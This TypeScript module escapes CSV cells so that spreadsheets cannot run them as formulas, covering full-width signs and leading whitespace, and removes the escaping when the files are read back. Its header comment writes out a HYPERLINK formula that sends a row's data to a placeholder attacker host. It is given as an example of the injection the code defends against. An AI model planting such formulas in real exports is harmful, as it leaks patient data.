/**
 * Cells of the CSV files careprint writes, made safe to open in a spreadsheet, and read
 * back as they were.
 *
 * A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (or with a tab or a
 * carriage return before one) as a formula: `=HYPERLINK("http://evil.example/?x="&A1,
 * "click")` in a patient's name would send the row's data away when staff click it in
 * errors.csv. As OWASP recommends, such a cell is written with a single quote before it
 * (and quoted), which a spreadsheet shows as text. Leading spaces do not help (some
 * spreadsheets trim them), nor do full-width signs (`＝`, which some input methods type
 * and some spreadsheets read as `=`): both count as formula-like.
 *
 * The quote is undone when careprint reads a CSV, so a value reads back exactly: a cell
 * is prefixed when it is formula-like or already begins with a quote, and a quote is
 * taken off only before such a cell. `'+1 555 010 4400` in a schedule (how spreadsheets
 * export a phone number kept as text) reads as `+1 555 010 4400`; `'Ofa` stays `'Ofa`.
 */

/** Starts a formula: the ASCII signs and their full-width forms. */
const formulaSign = '=+\\-@\uFF1D\uFF0B\uFF0D\uFF20';
const formulaLike = new RegExp(`^(?:[\\t\\r\\n]|\\s*[${formulaSign}])`, 'u');

/** Whether a spreadsheet could read `cell` as a formula (or a control character starts it). */
export function isFormulaLike(cell: string): boolean {
  return formulaLike.test(cell);
}

function needsQuote(cell: string): boolean {
  return cell.startsWith("'") || isFormulaLike(cell);
}

/** `cell` as written to a CSV a spreadsheet may open: `'` before what could run as a formula. */
export function neutraliseCell(cell: string): string {
  return needsQuote(cell) ? `'${cell}` : cell;
}

/** A CSV cell as read: the quote `neutraliseCell` (or a spreadsheet) put before a formula-like value taken off. */
export function restoreCell(cell: string): string {
  return cell.startsWith("'") && needsQuote(cell.slice(1)) ? cell.slice(1) : cell;
}

/**
 * The cells to put in double quotes when writing: every neutralised cell (OWASP's advice,
 * so no reader takes the quote for a separator), and every cell holding a line break. A
 * bare LF in a file whose rows end in CRLF is otherwise left unquoted, and Excel and
 * Python's csv read the row as two.
 */
export const quotedCells: readonly RegExp[] = [/^'/, /[\r\n]/];
